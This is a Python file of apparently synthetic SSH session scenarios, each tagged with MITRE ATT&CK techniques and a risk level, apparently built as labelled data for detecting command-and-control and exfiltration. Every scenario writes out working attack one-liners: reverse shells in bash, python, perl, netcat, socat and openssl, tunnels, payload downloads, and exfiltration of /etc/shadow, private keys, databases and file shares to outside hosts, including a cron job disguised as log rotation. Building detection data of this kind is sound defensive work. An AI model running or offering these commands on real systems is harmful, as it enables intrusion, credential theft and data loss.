"""Malicious sessions: command and control, tunnels, and exfiltration."""

from dsl import B, c, k, kp, p, ssh, wait
from snips import b64, chars, hexs, openssh_key, rsa_key, shadow

SCENARIOS = [
    ssh("reverse-shell-bash-devtcp", "erin.walsh:ubuntu@web-06", style="debian",
        T="T1059.004 T1095",
        risk="HIGH-CRITICAL",
        desc="Starts a detached interactive bash reverse shell over /dev/tcp to an external host",
        steps=[
            c("id; hostname -I", "uid=1000(ubuntu) gid=1000(ubuntu) groups=1000(ubuntu),4(adm),27(sudo)\n10.20.2.36 172.17.0.1"),
            k("nohup bash -c 'bash -i >& /dev/tcp/203.0.113.45/443 0>&1' >/dev/null 2>&1 &", "[1] 77102"),
            c("ss -tnp | grep 203.0.113.45", 'ESTAB 0      0      10.20.2.36:51334 203.0.113.45:443 users:(("bash",pid=77103,fd=2),("bash",pid=77103,fd=1),("bash",pid=77103,fd=0))'),
        ]),

    ssh("reverse-shell-python-pty", "grace.kim:app@api-prod-05", style="plain",
        T="T1059.006 T1095 T1571",
        risk="HIGH-CRITICAL",
        desc="Spawns a python reverse shell with a pty to an external host on a high port",
        steps=[
            c("which python3 python", "/usr/bin/python3"),
            kp("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.45\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")' &", "[1] 31290"),
            c("jobs", "[1]+  Running                 python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.45\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")' &"),
            c("disown"),
        ]),

    ssh("reverse-shell-nc-mkfifo", "uma.iyer:www-data@web-11", style="plain",
        T="T1059.004 T1095 T1571",
        risk="HIGH-CRITICAL",
        desc="Builds a netcat reverse shell through a named pipe because nc lacks -e",
        steps=[
            c("nc -h 2>&1 | head -2", "OpenBSD netcat (Debian patchlevel 1.218-4ubuntu1)\nusage: nc [-46CDdFhklNnrStUuvZz] [-I length] [-i interval] [-M ttl]"),
            kp("rm -f /tmp/.f; mkfifo /tmp/.f; cat /tmp/.f | /bin/sh -i 2>&1 | nc 198.51.100.9 4444 > /tmp/.f &", "[1] 66120"),
        ]),

    ssh("socat-tls-reverse-shell", "ivan.petrov:deploy@app-12", style="debian",
        T="T1105 T1059.004 T1573.002",
        risk="HIGH-CRITICAL",
        desc="Downloads a static socat and opens a TLS-encrypted interactive shell back to an external host",
        steps=[
            k("curl -fsSLo /dev/shm/socat http://198.51.100.77/bin/socat-x86_64 && chmod +x /dev/shm/socat"),
            kp("/dev/shm/socat exec:'bash -li',pty,stderr,setsid,sigint,sane openssl-connect:203.0.113.45:443,verify=0 &", "[1] 81733"),
            c("ps -o pid,cmd -p 81733", "    PID CMD\n  81733 /dev/shm/socat exec:bash -li,pty,stderr,setsid,sigint,sane openssl-connect:203.0.113.45:443,verify=0"),
        ]),

    ssh("perl-reverse-shell", "bob.martin:www-data@legacy-web-02", style="plain",
        T="T1059 T1095",
        risk="HIGH-CRITICAL",
        desc="Uses a perl one-liner to connect a shell to an external host on port 53",
        steps=[
            kp("perl -e 'use Socket;$i=\"203.0.113.45\";$p=53;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};' &", "[1] 20411"),
        ]),

    ssh("openssl-encrypted-shell", "carol.diaz:app@api-prod-06", style="debian",
        T="T1059.004 T1573.002 T1571",
        risk="HIGH-CRITICAL",
        desc="Pipes an interactive shell through openssl s_client to an external listener on a non-standard port",
        steps=[
            kp("mkfifo /tmp/.s; /bin/sh -i < /tmp/.s 2>&1 | openssl s_client -quiet -connect 203.0.113.45:8443 > /tmp/.s 2>/dev/null & disown", ""),
            c("ls -la /tmp/.s", "prw-r--r-- 1 app app 0 Mar 21 23:47 /tmp/.s"),
        ]),

    ssh("ssh-reverse-tunnel-out", "dev.patel:ubuntu@db-04", style="debian",
        T="T1105 T1572",
        risk="HIGH-CRITICAL",
        desc="Downloads a key and opens a persistent reverse SSH tunnel that exposes the internal host's SSH on an external server",
        steps=[
            k("curl -fsSo /tmp/.k http://198.51.100.77/k/tun && chmod 600 /tmp/.k"),
            kp("ssh -fN -R 0.0.0.0:2222:localhost:22 -o ServerAliveInterval=60 -o ExitOnForwardFailure=yes -o StrictHostKeyChecking=no -i /tmp/.k tun@203.0.113.20",
               "Warning: Permanently added '203.0.113.20' (ED25519) to the list of known hosts."),
            c("pgrep -af 'ssh -fN'", "51877 ssh -fN -R 0.0.0.0:2222:localhost:22 -o ServerAliveInterval=60 -o ExitOnForwardFailure=yes -o StrictHostKeyChecking=no -i /tmp/.k tun@203.0.113.20"),
        ]),

    ssh("chisel-reverse-socks", "tom.becker:deploy@app-13", style="debian",
        T="T1105 T1572 T1090",
        risk="HIGH-CRITICAL",
        desc="Downloads chisel and runs it as a client giving an external server a reverse SOCKS proxy into the network",
        steps=[
            k("curl -fsSL http://198.51.100.77/t/chisel_1.10.1_linux_amd64.gz | gunzip > /tmp/.ch && chmod +x /tmp/.ch"),
            kp("nohup /tmp/.ch client --fingerprint " + b64(chars("chfp", 32)) + " 203.0.113.45:8080 R:socks >/dev/null 2>&1 &", "[1] 40127"),
            c("ss -tnp | grep 8080", 'ESTAB 0 0 10.20.3.77:44812 203.0.113.45:8080 users:(("/tmp/.ch",pid=40127,fd=7))'),
        ]),

    ssh("ngrok-expose-ssh", "priya.raman:ubuntu@dev-vm-14", style="debian",
        T="T1105 T1572 T1102",
        risk="HIGH",
        desc="Downloads ngrok and exposes the host's SSH port to the internet through an ngrok TCP tunnel",
        steps=[
            k("curl -fsSLo /tmp/ngrok.tgz https://bin.equinox.io/c/bNyj1mQVY4c/ngrok-v3-stable-linux-amd64.tgz && tar xzf /tmp/ngrok.tgz -C /tmp"),
            k(f"/tmp/ngrok config add-authtoken 2{chars('ngrok', 26)}_{chars('ngrok2', 21)}", "Authtoken saved to configuration file: /home/ubuntu/.config/ngrok/ngrok.yml"),
            k("nohup /tmp/ngrok tcp 22 --log=stdout >/dev/null 2>&1 &", "[1] 12931"),
            c("curl -s localhost:4040/api/tunnels | grep -o 'tcp://[^\"]*'", "tcp://4.tcp.eu.ngrok.io:17342"),
        ]),

    ssh("dnscat2-dns-c2", "nina.kowalski:ubuntu@web-12", style="debian",
        T="T1105 T1071.004 T1572",
        risk="HIGH-CRITICAL",
        desc="Downloads dnscat2's client and runs a command-and-control session tunnelled in DNS queries",
        steps=[
            k("curl -fsSLo /var/tmp/.dc http://198.51.100.77/t/dnscat && chmod +x /var/tmp/.dc"),
            kp(f"nohup /var/tmp/.dc --dns server=ns1.cdn-telemetry.example,port=53 --secret={hexs('dnscat', 32)} >/dev/null 2>&1 &", "[1] 23119"),
            c("sudo timeout 5 tcpdump -ni ens5 -c 3 udp port 53 2>/dev/null", f"""
                03:12:01.118422 IP 10.20.2.40.41877 > 10.20.0.2.53: 38217+ TXT? {hexs('q1', 54)}.ns1.cdn-telemetry.example. (103)
                03:12:01.301277 IP 10.20.0.2.53 > 10.20.2.40.41877: 38217 1/0/0 TXT "{hexs('a1', 40)}" (155)
                03:12:02.119003 IP 10.20.2.40.41877 > 10.20.0.2.53: 2291+ MX? {hexs('q2', 54)}.ns1.cdn-telemetry.example. (103)""", run=3),
        ]),

    ssh("dns-exfil-shadow", "hiro.tanaka:root@db-05", style="plain",
        T="T1003.008 T1132.001 T1030 T1048.003 T1071.004",
        risk="CRITICAL",
        desc="Base64-encodes /etc/shadow and leaks it 60 characters at a time as DNS queries to an attacker name server",
        steps=[
            c("wc -c /etc/shadow", "1384 /etc/shadow"),
            kp("base64 -w0 /etc/shadow | fold -w 60 | nl -nln | while read n c; do dig +short +tries=1 \"$n.$c.x.cdn-telemetry.example\" @203.0.113.53 >/dev/null; sleep 0.5; done", run=16),
            c("echo done", "done"),
        ]),

    ssh("curl-post-web-config-archive", "wendy.zhao:root@web-13", style="plain",
        T="T1005 T1560.001 T1048.002",
        risk="HIGH-CRITICAL",
        desc="Streams a tarball of the web root and nginx/TLS config directly to an external HTTPS endpoint",
        steps=[
            c("du -sh /var/www/html /etc/nginx /etc/letsencrypt", "212M\t/var/www/html\n92K\t/etc/nginx\n148K\t/etc/letsencrypt"),
            kp("tar czf - /var/www/html /etc/nginx /etc/letsencrypt 2>/dev/null | curl -sk -X POST --data-binary @- -H 'Content-Type: application/octet-stream' https://203.0.113.80/u?n=web13", '{"received":198114233}', run=22),
        ]),

    ssh("rclone-cloud-exfil", "alice.chen:ubuntu@fileshare-01", style="debian",
        T="T1105 T1119 T1567.002",
        risk="CRITICAL",
        desc="Installs rclone, configures an attacker-owned S3 remote and copies the company file share to it",
        steps=[
            k("curl -fsSL https://downloads.rclone.org/rclone-current-linux-amd64.zip -o /tmp/rc.zip && unzip -qj /tmp/rc.zip '*/rclone' -d /tmp"),
            kp(f"/tmp/rclone config create s3x s3 provider=Other endpoint=https://s3.eu-storage.example access_key_id=AK{chars('rcak', 18).upper()} secret_access_key={chars('rcsk', 40)} >/dev/null"),
            c("du -sh /srv/share", "486G\t/srv/share", run=40),
            kp("/tmp/rclone copy /srv/share s3x:bk-7731/fs01 --transfers 16 --max-age 730d --exclude '*.iso' -q &", "[1] 99012"),
            c("jobs -l", "[1]+ 99012 Running                 /tmp/rclone copy /srv/share s3x:bk-7731/fs01 --transfers 16 --max-age 730d --exclude '*.iso' -q &"),
        ]),

    ssh("mysqldump-scp-out", "kevin.obrien:ubuntu@mysql-shop-01", style="debian",
        T="T1552.001 T1005 T1074.001 T1560.001 T1048.002",
        risk="CRITICAL",
        desc="Dumps the shop database with root credentials from debian.cnf, compresses it in a hidden file and copies it to an external host over scp on port 443",
        steps=[
            c("sudo cat /etc/mysql/debian.cnf | grep -m2 -E 'user|password'", f"user     = debian-sys-maint\npassword = {chars('debsys', 16)}"),
            k("sudo mysqldump --defaults-file=/etc/mysql/debian.cnf --single-transaction shop customers orders payment_methods > /var/tmp/.d.sql", run=31),
            k("gzip -9 /var/tmp/.d.sql && ls -lh /var/tmp/.d.sql.gz", "-rw-rw-r-- 1 ubuntu ubuntu 412M Mar 22 03:33 /var/tmp/.d.sql.gz", run=40),
            k("scp -P 443 -o StrictHostKeyChecking=no /var/tmp/.d.sql.gz x@203.0.113.20:/srv/in/shop.sql.gz", run=95),
            c("rm -f /var/tmp/.d.sql.gz"),
        ]),

    ssh("paste-site-key-exfil", "frank.nguyen:root@jump-04", style="plain",
        T="T1552.004 T1567.003",
        risk="HIGH-CRITICAL",
        desc="Uploads root's private SSH key to a public paste site with a one-hour expiry",
        steps=[
            c("ls /root/.ssh", "authorized_keys  id_rsa  id_rsa.pub  known_hosts"),
            kp("curl -s -F 'content=<-' -F 'expiry=1h' https://paste.example/api/v1/new < /root/.ssh/id_rsa", "https://paste.example/r/Qm7xT2pa"),
        ]),

    ssh("git-push-config-exfil", "sam.okafor:deploy@app-14", style="debian",
        T="T1005 T1552.001 T1567.001",
        risk="HIGH-CRITICAL",
        desc="Copies application configuration and secrets into a new git repository and pushes it to an outside GitHub account",
        steps=[
            c("mkdir -p /tmp/.r && cd /tmp/.r && git init -q"),
            k("cp -r /srv/app/config /srv/app/.env /etc/app/credentials.yml ."),
            c("git add -A && git -c user.name=x -c user.email=x@x commit -qm sync && git log --oneline", hexs("commit", 7) + " sync"),
            k("git remote add origin https://devops-sync-bot:ghp_" + chars("exfilghp", 36) + "@github.com/devops-sync-bot/notes.git && git push -q origin HEAD:main", ""),
            c("cd && rm -rf /tmp/.r"),
        ]),

    ssh("chunked-upload-exfil", "julia.santos:ubuntu@pg-analytics-01", style="debian",
        T="T1005 T1560.001 T1030 T1048.003",
        risk="CRITICAL",
        desc="Archives the analytics data directory, splits it into 10 MB pieces and uploads them one by one with pauses to stay under alerts",
        steps=[
            c("cd /var/tmp && mkdir .p && cd .p"),
            k("sudo tar czf - /srv/analytics/exports | split -b 10M - part_", run=64),
            c("ls | wc -l; du -sh .", "147\n1.5G\t."),
            kp("for f in part_*; do curl -s -T $f http://203.0.113.80:8000/p/$(hostname)/$f && rm -f $f; sleep $((RANDOM % 40 + 20)); done &", "[1] 77651"),
        ]),

    ssh("cron-scheduled-exfil", "nina.kowalski:root@upload-01", style="plain",
        T="T1053.003 T1029 T1048.003 T1036.004",
        risk="CRITICAL",
        desc="Installs a nightly cron job named like log rotation that ships the uploads directory to an external server",
        steps=[
            kp("echo '17 3 * * * root tar czf - /srv/uploads 2>/dev/null | curl -s -T - http://203.0.113.80/d/$(hostname)-$(date +\\%F).tgz' > /etc/cron.d/logrotate-daily"),
            c("cat /etc/cron.d/logrotate-daily", "17 3 * * * root tar czf - /srv/uploads 2>/dev/null | curl -s -T - http://203.0.113.80/d/$(hostname)-$(date +\\%F).tgz"),
        ]),

    ssh("http-polling-c2-loop", "victor.ruiz:app@api-prod-07", style="debian",
        T="T1071.001 T1105 T1059.004",
        risk="HIGH-CRITICAL",
        desc="Starts a background loop that polls an external web server for commands every minute and pipes them to sh",
        steps=[
            kp("nohup sh -c 'while :; do curl -fs -A \"Mozilla/5.0\" http://203.0.113.14/t/$(hostname) | sh >/dev/null 2>&1; sleep 60; done' >/dev/null 2>&1 &", "[1] 55321"),
            c("disown"),
        ]),

    ssh("tmate-remote-session", "omar.haddad:ubuntu@dev-vm-22", style="debian",
        T="T1105 T1219",
        risk="HIGH",
        desc="Installs tmate and opens a shared terminal session reachable from the internet",
        steps=[
            k("curl -fsSL https://github.com/tmate-io/tmate/releases/download/2.4.0/tmate-2.4.0-static-linux-amd64.tar.xz | tar xJ -C /tmp"),
            k("/tmp/tmate-2.4.0-static-linux-amd64/tmate -S /tmp/.t new-session -d && /tmp/tmate-2.4.0-static-linux-amd64/tmate -S /tmp/.t wait tmate-ready"),
            c("/tmp/tmate-2.4.0-static-linux-amd64/tmate -S /tmp/.t display -p '#{tmate_ssh}'", f"ssh {chars('tmate', 25)}@lon1.tmate.io"),
        ]),

    ssh("tor-proxychains-exfil", "erin.walsh:root@web-14", style="debian",
        T="T1090.003 T1048.002 T1005",
        risk="HIGH-CRITICAL",
        desc="Installs tor and proxychains and uploads a database dump to a hidden service through the tor network",
        steps=[
            c("apt-get install -y -qq tor proxychains4 >/dev/null && systemctl start tor", run=12),
            kp("proxychains4 -q curl -s -F 'f=@/var/backups/postgres/shop-2025-03-20.dump' http://" + chars("onion", 56, "abcdefghijklmnopqrstuvwxyz234567") + ".onion/u", "OK 588291104", run=240),
        ]),

    ssh("socat-port-relay", "grace.kim:deploy@web-15", style="debian",
        T="T1090.001 T1105",
        risk="HIGH",
        desc="Runs socat relays that expose the internal Postgres and Redis servers on the web host's public interface",
        steps=[
            k("curl -fsSLo /tmp/.so http://198.51.100.77/bin/socat-x86_64 && chmod +x /tmp/.so"),
            k("nohup /tmp/.so TCP-LISTEN:15432,fork,reuseaddr TCP:10.20.4.10:5432 >/dev/null 2>&1 &", "[1] 70112"),
            k("nohup /tmp/.so TCP-LISTEN:16379,fork,reuseaddr TCP:10.20.4.21:6379 >/dev/null 2>&1 &", "[2] 70118"),
            c("ss -tlnp | grep .so", 'LISTEN 0      5            0.0.0.0:15432      0.0.0.0:*    users:(("/tmp/.so",pid=70112,fd=5))\nLISTEN 0      5            0.0.0.0:16379      0.0.0.0:*    users:(("/tmp/.so",pid=70118,fd=5))'),
        ]),
]
